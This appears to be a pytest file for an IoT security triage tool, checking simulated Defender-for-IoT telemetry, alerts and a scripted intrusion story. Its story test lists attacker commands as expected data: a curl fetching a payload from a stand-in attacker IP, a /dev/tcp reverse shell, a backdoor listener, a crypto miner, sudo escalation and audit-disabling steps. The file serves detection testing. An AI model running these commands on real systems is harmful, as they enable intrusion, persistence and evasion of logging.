"""The demo evidence: the same everywhere, dated relative to now, with every part of its story."""

from __future__ import annotations

import json
import re
from collections import Counter
from datetime import UTC, datetime, timedelta, timezone
from functools import cache, partial
from ipaddress import ip_address, ip_network
from typing import Any

import pytest
from iotriage.queries.demo import HUB, STORY_DEVICE, demo_tables
from iotriage.queries.demo.export import write_export
from iotriage.queries.printable import printable

NOW = datetime(2026, 12, 31, 22, 41, tzinfo=UTC)
ATTACKER = "203.0.113.66"
RAW = ("SecurityIoTRawEvent", "DefenderIoTRawEvent")
RAW_COLUMNS = {
    "TenantId",
    "AgentVersion",
    "AssociatedResourceId",
    "AzureSubscriptionId",
    "DeviceId",
    "EventDetails",
    "IoTRawEventId",
    "IsEmpty",
    "RawEventCategory",
    "RawEventName",
    "RawEventType",
    "TimeGenerated",
    "TimeStamp",
    "Type",
}
_ISO = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d")
_INVARIANT = re.compile(r"\d\d/\d\d/\d{4} \d\d:\d\d:\d\d")
_FORMS = ((_ISO, "%Y-%m-%dT%H:%M:%S"), (_INVARIANT, "%m/%d/%Y %H:%M:%S"))
_NOW_ISO, _NOW_INVARIANT = f"{NOW:%Y-%m-%dT%H:%M:%S}", f"{NOW:%Y/%m/%d %H:%M:%S}"

#: Columns whose text is what a device or the service says of one.
_SAYING = ("EventDetails", "ExtendedProperties", "Entities", "RecommendationAdditionalData")

Row = dict[str, Any]


@cache
def tables() -> dict[str, list[Row]]:
    return demo_tables(NOW)


@cache
def events() -> list[tuple[Row, dict[str, Any]]]:
    return [(row, json.loads(row["EventDetails"])) for table in RAW for row in tables()[table]]


def told(device: str, name: str) -> list[tuple[Row, dict[str, Any]]]:
    """Events of the device by that name, oldest first."""
    found = [pair for pair in events() if pair[0]["DeviceId"] == device]
    found = [pair for pair in found if pair[0]["RawEventName"] == name]
    return sorted(found, key=lambda pair: str(pair[0]["TimeStamp"]))


def lines(device: str) -> list[str]:
    return [str(details["CommandLine"]) for _, details in told(device, "ProcessCreate")]


def alerts(device: str) -> dict[str, list[Row]]:
    """Alert rows that name the device, by AlertName."""
    found: dict[str, list[Row]] = {}
    for row in tables()["SecurityAlert"]:
        entities = json.loads(row["Entities"] or "[]")
        named = {entity.get("DeviceId") for entity in entities if entity["Type"] == "iotdevice"}
        named.add(json.loads(row["ExtendedProperties"]).get("DeviceId"))
        if device in named:
            found.setdefault(row["AlertName"], []).append(row)
    return found


@cache
def moved(text: str, form: str, step: timedelta) -> str:
    return (datetime.strptime(text, form) + step).strftime(form)


def later(value: Any, step: timedelta) -> Any:
    """The value with every time in it moved by ``step``."""
    if not isinstance(value, str):
        return value
    for pattern, form in _FORMS:
        value = pattern.sub(partial(_moved_match, form, step), value)
    return value


def _moved_match(form: str, step: timedelta, match: re.Match[str]) -> str:
    return moved(match[0], form, step)


def moment(text: str) -> datetime:
    return datetime.fromisoformat(text)


def test_same_now_same_rows() -> None:
    assert demo_tables(NOW) == tables()


@pytest.mark.parametrize(
    "now",
    [
        NOW.replace(second=59, microsecond=999_999),
        NOW.astimezone(timezone(timedelta(hours=9))),
        NOW.replace(tzinfo=None),
    ],
)
def test_seconds_and_zones_of_now_change_nothing(now: datetime) -> None:
    assert demo_tables(now) == tables()


@pytest.mark.parametrize("step", [timedelta(days=1), timedelta(minutes=-47)])
def test_another_now_moves_every_time_and_nothing_else(step: timedelta) -> None:
    then = demo_tables(NOW + step)
    for table, rows in tables().items():
        expected = [{name: later(value, step) for name, value in row.items()} for row in rows]
        assert then[table] == expected
        assert all(
            new["TimeGenerated"] != old["TimeGenerated"]
            for new, old in zip(then[table], rows, strict=True)
        )


def test_nothing_is_dated_after_now() -> None:
    for table, rows in tables().items():
        for row in rows:
            assert moment(row["TimeGenerated"]) < NOW, (table, row)
            text = json.dumps(row)
            for found in _ISO.findall(text):
                assert found <= _NOW_ISO, row
            for found in _INVARIANT.findall(text):
                assert f"{found[6:10]}/{found[:5]}{found[10:]}" <= _NOW_INVARIANT, row


def test_nothing_is_older_than_eight_days() -> None:
    oldest = min(row["TimeGenerated"] for rows in tables().values() for row in rows)
    assert timedelta(days=7) < NOW - moment(oldest) < timedelta(days=8)


def test_ids_stay_the_same_from_day_to_day() -> None:
    tomorrow = demo_tables(NOW + timedelta(days=1, hours=3))
    for table, column in (
        ("SecurityAlert", "SystemAlertId"),
        (RAW[0], "IoTRawEventId"),
        (RAW[1], "IoTRawEventId"),
        ("SecurityRecommendation", "RecommendationId"),
    ):
        assert [row[column] for row in tomorrow[table]] == [row[column] for row in tables()[table]]
    succeeded = alerts(STORY_DEVICE)["Brute force attack succeeded"]
    assert {row["SystemAlertId"] for row in succeeded} == {"0ca9a738-c53d-58dc-ad95-bf1ff4465841"}


def test_a_message_has_an_id_of_its_own() -> None:
    seen: dict[str, tuple[str, str, str]] = {}
    for row, _ in events():
        message = (row["DeviceId"], row["RawEventName"], row["TimeStamp"])
        assert seen.setdefault(row["IoTRawEventId"], message) == message


def test_no_row_is_there_twice() -> None:
    for rows in tables().values():
        texts = Counter(json.dumps(row, sort_keys=True) for row in rows)
        assert [text for text, count in texts.items() if count > 1] == []


def test_size() -> None:
    counts = {table: len(rows) for table, rows in tables().items()}
    assert 20_000 <= sum(counts[table] for table in RAW) <= 30_000
    assert counts["DefenderIoTRawEvent"] >= 200
    assert 30 <= counts["SecurityAlert"] <= 80
    assert 50 <= counts["SecurityRecommendation"] <= 120
    last_day = [row for row, _ in events() if NOW - moment(row["TimeStamp"]) <= timedelta(days=1)]
    assert len(last_day) >= 5_000


def test_rows_have_the_columns_of_their_table() -> None:
    for table in RAW:
        for row in tables()[table]:
            assert set(row) == RAW_COLUMNS
            assert row["Type"] == table
    assert len({frozenset(row) for row in tables()["SecurityAlert"]}) == 1


def test_values_are_what_json_lines_hold() -> None:
    for rows in tables().values():
        for row in rows:
            assert {type(value) for value in row.values()} <= {str, bool, int, float}
            "".join(value for value in row.values() if isinstance(value, str)).encode()


def test_details_are_compact_json_and_empty_only_when_told_so() -> None:
    for row, details in events():
        assert isinstance(details, dict)
        assert bool(details) is not row["IsEmpty"]
        compact = json.dumps(details, ensure_ascii=False, separators=(",", ":"))
        assert row["EventDetails"] == compact
    assert any(row["IsEmpty"] for row, _ in events())


def test_everything_belongs_to_the_hub() -> None:
    for table, column in ((RAW[0], "AssociatedResourceId"), ("SecurityAlert", "ResourceId")):
        assert {row[column].rsplit("/", 1)[1] for row in tables()[table]} == {HUB}


def test_fleet_of_both_generations() -> None:
    micro = {row["DeviceId"] for row, _ in events() if row["RawEventName"] == "Process"}
    legacy = {row["DeviceId"] for row, _ in events() if row["RawEventName"] == "ProcessCreate"}
    assert (len(legacy), len(micro), legacy & micro) == (28, 13, set())
    assert {row["DeviceId"] for row in tables()[RAW[1]]} == {"edge-0601", "edge-0602"}
    named = {row["CompromisedEntity"] for row in tables()["SecurityAlert"]}
    assert named - {HUB} <= legacy | micro
    counts = Counter(row["AgentVersion"] for row, _ in events())
    assert len(counts) == 3


def test_both_ways_to_word_an_aggregate() -> None:
    hits = [
        details["ExtraDetails"]
        for row, details in events()
        if row["RawEventCategory"] == "Aggregated"
    ]
    number = [extra for extra in hits if isinstance(extra["HitCount"], int)]
    text = [extra for extra in hits if isinstance(extra["HitCount"], str)]
    assert len(number) > 1000 < len(text)
    assert all(_ISO.match(extra["StartTimeUtc"]) for extra in number)
    assert all(_INVARIANT.fullmatch(extra["StartTimeUtc"]) for extra in text)
    assert min(int(extra["HitCount"]) for extra in hits) == 1


def test_addresses_point_at_nobody() -> None:
    nets = [
        ip_network(text)
        for text in (
            "10.0.0.0/8",
            "127.0.0.0/8",
            "0.0.0.0/32",
            "192.0.2.0/24",
            "198.51.100.0/24",
            "203.0.113.0/24",
        )
    ]
    found = set()
    for rows in tables().values():
        for row in rows:
            text = "".join(row.get(column, "") for column in _SAYING)
            found |= set(re.findall(r"(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])", text))
    assert ATTACKER in found
    assert [text for text in found if not any(ip_address(text) in net for net in nets)] == []


def test_brute_force_then_sign_in() -> None:
    logins = told(STORY_DEVICE, "Login")
    failed = [
        details
        for _, details in logins
        if details["Result"] == "Fail" and details.get("RemoteAddress") == ATTACKER
    ]
    per_record = Counter(details["Operation"] for details in failed)
    assert set(per_record) == {"PAM:authentication", "login"}
    assert len(set(per_record.values())) == 1
    assert min(per_record.values()) >= 300
    names = {details.get("UserName") for details in failed}
    assert {"root", "operator", "(invalid user)", "(unknown user)"} <= names
    success = [
        (row, details)
        for row, details in logins
        if details["Result"] == "Success" and details.get("RemoteAddress") == ATTACKER
    ]
    assert [details.get("UserName") for _, details in success] == [
        "operator",
        None,
        "svc-backup",
        None,
    ]
    first = next(row for row, details in logins if details.get("RemoteAddress") == ATTACKER)
    assert abs(NOW - timedelta(hours=6) - moment(first["TimeStamp"])) < timedelta(seconds=10)
    last_failure = max(
        row["TimeStamp"]
        for row, details in logins
        if details["Result"] == "Fail" and details.get("RemoteAddress") == ATTACKER
    )
    assert last_failure < success[0][0]["TimeStamp"]


def test_story_runs_in_order() -> None:
    typed = lines(STORY_DEVICE)
    wanted = (
        "id",
        "cat /etc/passwd",
        "ss -tulpn",
        "find / -perm -4000 -type f",
        f"curl -fsSL http://{ATTACKER}:8080/k/dbus-hlp --create-dirs -o /tmp/.x/dbus-hlp",
        "chmod +x /tmp/.x/kworkerds /tmp/.x/dbus-hlp",
        f"bash -c /bin/sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1",
        "useradd -m -s /bin/bash",
        "/tmp/.x/dbus-hlp --listen 0.0.0.0:31337",
        "usermod -aG sudo svc-backup",
        "auditctl -e 0",
        "auditctl -e 1",
        f"/tmp/.x/kworkerds -o {ATTACKER}:3333",
        "shred -u /home/operator/.bash_history",
        "/bin/sh /usr/sbin/service auditd stop",
    )
    places = [next(n for n, line in enumerate(typed) if line.startswith(want)) for want in wanted]
    assert places == sorted(places)


def test_new_user_comes_and_is_raised() -> None:
    groups = [
        details["GroupNames"]
        for _, details in told(STORY_DEVICE, "LocalUsers")
        if details["UserName"] == "svc-backup"
    ]
    assert groups[0] == "svc-backup"
    assert groups[-1] == "svc-backup;sudo"
    newest = told(STORY_DEVICE, "LocalUsers")[-1][0]["IoTRawEventId"]
    snapshot = [d for row, d in told(STORY_DEVICE, "LocalUsers") if row["IoTRawEventId"] == newest]
    assert {"svc-backup", "root", "operator"} <= {details["UserName"] for details in snapshot}


def test_listener_and_mining_last_until_now() -> None:
    snapshots = told(STORY_DEVICE, "ListeningPorts")
    newest = snapshots[-1][0]
    assert NOW - moment(newest["TimeStamp"]) < timedelta(minutes=30)
    sockets = {
        (details["LocalPort"], details["RemoteAddress"], details["RemotePort"])
        for row, details in snapshots
        if row["IoTRawEventId"] == newest["IoTRawEventId"]
    }
    assert ("31337", "0.0.0.0", "*") in sockets
    assert (ATTACKER, "3333") in {socket[1:] for socket in sockets}
    assert (ATTACKER, "4444") in {(d["RemoteAddress"], d["RemotePort"]) for _, d in snapshots}
    calls = [details for _, details in told(STORY_DEVICE, "ConnectionCreate")]
    assert (ATTACKER, "3333") in {(d["RemoteAddress"], d["RemotePort"]) for d in calls}


def test_audit_holes() -> None:
    names = ("ProcessCreate", "Login", "ConnectionCreate")
    triggered = sorted(row["TimeStamp"] for name in names for row, _ in told(STORY_DEVICE, name))
    assert NOW - moment(triggered[-1]) == timedelta(hours=4, minutes=30)
    off, on = (NOW - timedelta(hours=6) + timedelta(minutes=m) for m in (68, 76))
    single = [
        row["TimeStamp"]
        for name in names
        for row, _ in told(STORY_DEVICE, name)
        if row["RawEventCategory"] == "Triggered"
    ]
    assert [text for text in single if off < moment(text) < on] == []


@pytest.mark.parametrize(
    ("kind", "severity", "states"),
    [
        ("IoT_Bruteforce_Success", "High", 2),
        ("IoT_LinuxReconnaissance", "Medium", 1),
        ("IoT_DownloadFileThenRun", "Medium", 1),
        ("IoT_ReverseShell", "High", 2),
        ("IoT_SuspiciousUseradd", "Medium", 1),
        ("IoT_LinuxBackdoor", "Medium", 1),
        ("IoT_DisableAuditdLogging", "High", 2),
        ("IoT_CryptoMiner", "Medium", 1),
        ("IoT_ClearHistoryFile", "Low", 1),
        ("IoT_TiConnection", "Medium", 2),
    ],
)
def test_story_alerts(kind: str, severity: str, states: int) -> None:
    rows = [
        row for found in alerts(STORY_DEVICE).values() for row in found if row["AlertType"] == kind
    ]
    assert [row["AlertSeverity"] for row in rows] == [severity] * states


def test_a_later_state_is_the_same_alert() -> None:
    first, second = alerts(STORY_DEVICE)["Brute force attack succeeded"]
    assert first["SystemAlertId"] == second["SystemAlertId"]
    assert (first["Status"], second["Status"]) == ("New", "InProgress")
    assert first["TimeGenerated"] < second["TimeGenerated"]


def test_alert_times_are_in_order() -> None:
    for row in tables()["SecurityAlert"]:
        assert moment(row["StartTime"]) <= moment(row["EndTime"]) <= moment(row["TimeGenerated"])
        assert isinstance(json.loads(row["RemediationSteps"]), list)


def test_attacker_leads_to_one_more_device() -> None:
    seen = {row["DeviceId"] for row, details in events() if ATTACKER in json.dumps(details)}
    assert seen == {STORY_DEVICE, "gw-0007"}
    knocks = [d for _, d in told("gw-0007", "Login") if d.get("RemoteAddress") == ATTACKER]
    assert len(knocks) >= 20
    assert {details["Result"] for details in knocks} == {"Fail"}
    assert {
        details["LocalPort"]
        for _, details in told("gw-0007", "ConnectionCreate")
        if details["RemoteAddress"] == ATTACKER
    } == {"22", "443", "502", "1883"}
    assert set(alerts("gw-0007")) == {"Failed Bruteforce"}


def test_false_alarm_of_planned_work() -> None:
    added = next(
        row for row, d in told("gw-0012", "ProcessCreate") if "useradd" in d["CommandLine"]
    )
    before = [
        details
        for row, details in told("gw-0012", "Login")
        if timedelta(0)
        < moment(added["TimeStamp"]) - moment(row["TimeStamp"])
        < timedelta(minutes=10)
    ]
    assert {details["RemoteAddress"] for details in before} == {"10.20.4.22"}
    assert {details["Result"] for details in before} == {"Success"}
    assert "Detected suspicious use of the useradd command" in alerts("gw-0012")
    assert "mueller" in {details["UserName"] for _, details in told("gw-0012", "LocalUsers")}


def test_false_alarm_of_the_weekly_tunnel() -> None:
    rows = alerts("hmi-0003")["Port forwarding detection"]
    assert sorted(row["Status"] for row in rows) == ["Dismissed", "New", "New"]
    assert len([line for line in lines("hmi-0003") if line.startswith("ssh -N -R")]) == 2


def test_silent_device() -> None:
    mine = [row for row, _ in events() if row["DeviceId"] == "cam-0214"]
    newest = max(moment(row["TimeGenerated"]) for row in mine)
    assert timedelta(hours=8, minutes=55) < NOW - newest < timedelta(hours=10)
    dropped: dict[str, int] = {}
    for row, details in told("cam-0214", "DroppedEventsStatistics"):
        when = row["TimeStamp"]
        dropped[when] = dropped.get(when, 0) + details["DroppedEvents"]
    last = list(dropped.values())[-6:]
    assert last == sorted(last)
    assert last[0] > 0 < last[-1] - 1000
    (silent,) = alerts("cam-0214")["Device silent"]
    assert "DeviceId" not in json.loads(silent["ExtendedProperties"])


def test_other_devices_are_heard_until_now() -> None:
    newest: dict[str, str] = {}
    for row, _ in events():
        newest[row["DeviceId"]] = max(newest.get(row["DeviceId"], ""), row["TimeGenerated"])
    late = {name for name, text in newest.items() if NOW - moment(text) > timedelta(hours=1)}
    assert late == {"cam-0214"}


def test_alerts_without_a_device() -> None:
    hub = [row for row in tables()["SecurityAlert"] if row["CompromisedEntity"] == HUB]
    assert "New certificate added to an IoT Hub" in {row["AlertName"] for row in hub}
    assert all("DeviceId" not in row["ExtendedProperties"] for row in hub)
    assert all("iotdevice" not in row["Entities"] for row in hub)


def test_hostile_text_is_there_to_be_shown_safely() -> None:
    nasty = [line for line in lines(STORY_DEVICE) if "\x1b" in line]
    assert len(nasty) == 1
    assert "[/red]" in nasty[0]
    assert printable(nasty[0]) != nasty[0]
    everything = [d.get("CommandLine", "") for _, d in events()]
    for part in ("`", " | ", "第3ライン", "☕"):
        assert any(part in line for line in everything), part


def test_export_holds_the_same_rows(tmp_path: Any) -> None:
    written = write_export(tmp_path, NOW)
    form = re.compile(
        r"am-(\w+)/WorkspaceResourceId=/subscriptions/[-0-9a-f]{36}/resourcegroups/[^/]+/providers"
        r"/microsoft\.operationalinsights/workspaces/[^/]+"
        r"/y=(\d{4})/m=(\d\d)/d=(\d\d)/h=(\d\d)/m=00/PT05M\.json"
    )
    found: dict[str, list[Row]] = {}
    for file in written:
        match = form.fullmatch(file.relative_to(tmp_path).as_posix())
        assert match, file
        rows = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
        hour = "{}-{}-{}T{}".format(*match.groups()[1:])
        assert {row["TimeGenerated"][:13] for row in rows} == {hour}
        found.setdefault(match[1], []).extend(rows)
    assert set(found) == set(tables())
    for table, rows in tables().items():
        key = _text
        assert sorted(found[table], key=key) == sorted(rows, key=key)


def _text(row: Row) -> str:
    return json.dumps(row, sort_keys=True)
